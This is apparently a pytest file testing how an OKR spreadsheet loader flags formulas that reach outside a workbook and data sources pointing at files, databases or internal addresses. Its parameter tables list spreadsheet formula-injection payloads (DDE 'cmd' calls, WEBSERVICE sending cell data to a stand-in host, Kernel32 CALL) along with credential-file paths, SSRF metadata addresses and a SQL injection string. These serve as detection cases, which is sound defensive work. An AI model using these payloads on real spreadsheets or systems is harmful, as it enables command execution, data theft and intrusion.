"""Formulas that reach outside, and sources that are never opened."""

import pytest

from okrsheet.workbook.load_outside import never_opened, reach
from tests import books
from tests.books import Book
from tests.small_plan import small_book
from tests.unit.plain_book import KEY_RESULTS, Formula, Tab, load, tabs, with_cells, with_column
from tests.unit.test_load_places import told as told_of_ours

REACHING = {
    "cmd|'/c calc'!A0": "DDE",
    "'cmd'|'/c calc'!A0": "DDE",
    "1+MSEXCEL|'\\..\\x.exe'!''": "DDE",
    'WEBSERVICE("http://x/"&A1)': "WEBSERVICE",
    '_xlfn.WEBSERVICE("http://x/")': "WEBSERVICE",
    'IF(A1,webservice ("x"),0)': "WEBSERVICE",
    '_xlfn.IMAGE("https://x/a.png")': "IMAGE",
    'RTD("prog",,"a")': "RTD",
    'CALL("Kernel32","x")': "CALL",
    'REGISTER.ID("a","b")': "REGISTER.ID",
    'IMPORTDATA("http://x")': "IMPORTDATA",
    'DDE("soffice";"a";"b")': "DDE",
}
STAYING = {
    "a bar in a text": 'IF(A1="a|b!",1,0)',
    "a function's name in a text": 'IF(A1="WEBSERVICE(",1,0)',
    "a bar in the name of a sheet": "'a|b'!A1",
    "a bar in the name of a column": "SUM(tblX[a|b])+Sheet1!A1",
    "another sheet": "Sheet1!A1+SUM(B1:B9)",
    "a longer name": "RECALL(A1)+MY.CALL(A1)+CALLS(A1)",
    "a link people click": 'HYPERLINK("https://x","x")',
    "nothing": "",
}
CLOSED = {
    "file:///etc/passwd": "a file",
    "C:\\data\\kpi.xlsx": "a file",
    "\\\\server\\share\\x.csv": "a file",
    "../../etc/passwd": "a file",
    "/etc/shadow": "a file",
    "~/kpi.csv": "a file",
    "sqlite:////etc/x": "a database",
    "postgresql+psycopg://u:p@h/db": "a database",
    "jdbc:oracle:thin:@h": "a database",
    "SELECT * FROM users": "a database",
    "1; DROP TABLE okr; --": "a database",
    "gopher://127.0.0.1:8799/_x": "an address",
    "ftp://files.example.com/x": "an address",
    "http://169.254.169.254/latest/": "an address inside a network",
    "http://127.0.0.1:8799/": "an address inside a network",
    "https://localhost/x": "an address inside a network",
    "http://user@10.0.0.7/x": "an address inside a network",
    "http://[::1]/": "an address inside a network",
    "http://2130706433:8799/": "an address inside a network",
    "http://172.20.1.1/": "an address inside a network",
}
OPEN = [
    "HubSpot",
    "Finance report, page 2",
    "https://app.example.com/report/7",
    "http://100.example.com/",
    "https://172.example.com",
    "SQL Server, sales",
    "Select Insurance CRM",
    "Profile: HR",
    "A/B test tool",
    "1/2 of the team's notes",
    "",
]


@pytest.mark.parametrize(("formula", "how"), REACHING.items())
def test_a_formula_that_reaches_outside(formula: str, how: str) -> None:
    assert reach(formula) == how


@pytest.mark.parametrize("formula", STAYING.values(), ids=STAYING)
def test_a_formula_that_stays(formula: str) -> None:
    assert not reach(formula)


@pytest.mark.parametrize(("text", "kind"), CLOSED.items())
def test_a_place_that_is_never_opened(text: str, kind: str) -> None:
    assert never_opened(text) == kind


@pytest.mark.parametrize("text", OPEN)
def test_a_source_named_in_words(text: str) -> None:
    assert not never_opened(text)


def findings(loaded, code):
    return [(each.where, str(each.severity)) for each in loaded.findings if each.code == code]


def test_each_reaching_cell_of_a_plain_workbook_is_named() -> None:
    rows = with_cells(
        KEY_RESULTS, {(1, 6): Formula("cmd|'/c calc'!A0", 0), (3, 6): Formula("1+1", 2)}
    )
    loaded = load(tabs(KeyResults=Tab(rows), Other=Tab((("x", Formula('WEBSERVICE("x")', 0)),))))
    assert findings(loaded, "OKR030") == [("KeyResults!G2", "warning"), ("Other!B1", "warning")]


def test_a_reaching_cell_of_our_own_layout_is_named() -> None:
    book = Book(small_book())
    where = book.type_in("Key Results", "Target", 0, books.formula('WEBSERVICE("x")', "9"))
    assert f"OKR030 {where}" in told_of_ours(book)
    assert "OKR030" not in {each.split()[0] for each in told_of_ours(Book(small_book()))}


def test_many_reaching_cells_do_not_flood_the_page() -> None:
    rows = [(Formula(f'WEBSERVICE("{number}")', 0),) for number in range(90)]
    assert len(findings(load(tabs(Other=Tab(rows))), "OKR030")) == 20


def test_a_source_that_is_never_opened_is_named_and_not_repeated() -> None:
    rows = with_column(KEY_RESULTS, "Data source", "file:///etc/passwd", "HubSpot", None)
    config = (("Key", "Value"), ("Quarter", "2027-Q2"), ("source", "http://10.1.1.1/secret"))
    loaded = load(tabs(KeyResults=Tab(rows), Config=Tab(config)))
    assert findings(loaded, "OKR035") == [("Config!B3", "warning"), ("KeyResults!I2", "warning")]
    assert not any("secret" in str(each) for each in loaded.findings)


def test_a_source_of_our_own_layout_is_named() -> None:
    book = Book(small_book())
    where = book.type_in("Key Results", "Data source", 0, books.text("C:\\kpi.xlsx"))
    assert f"OKR035 {where}" in told_of_ours(book)
